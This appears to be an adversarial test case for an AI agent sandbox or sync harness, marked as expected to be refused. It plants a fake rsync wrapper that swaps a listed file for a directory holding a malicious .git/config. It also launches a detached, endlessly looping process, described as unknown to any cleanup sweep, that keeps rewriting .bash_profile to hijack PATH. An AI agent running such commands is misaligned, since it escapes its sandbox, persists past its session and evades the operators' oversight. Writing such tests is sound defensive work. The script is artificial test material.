#!/bin/bash
# class: sender
# title: a file that becomes a directory of other files after it was listed
# expects: refused
mkdir -p /sandbox/bin; echo x > new
cat > /sandbox/bin/rsync <<'X'
#!/bin/bash
cd /sandbox/workspace/repo && rm -rf new && mkdir -p new/.git && echo evil > new/.git/config
exec /usr/bin/rsync "$@"
X
chmod +x /sandbox/bin/rsync
# Again and again, by a process that no sweep knows: what the agent left in the login files may be undone at its end.
env -i setsid /bin/bash -c 'while :; do printf "export PATH=/sandbox/bin:\$PATH\n" > /sandbox/.p; mv -f /sandbox/.p /sandbox/.bash_profile; done' \
  < /dev/null > /dev/null 2>&1 &
sleep 0.1
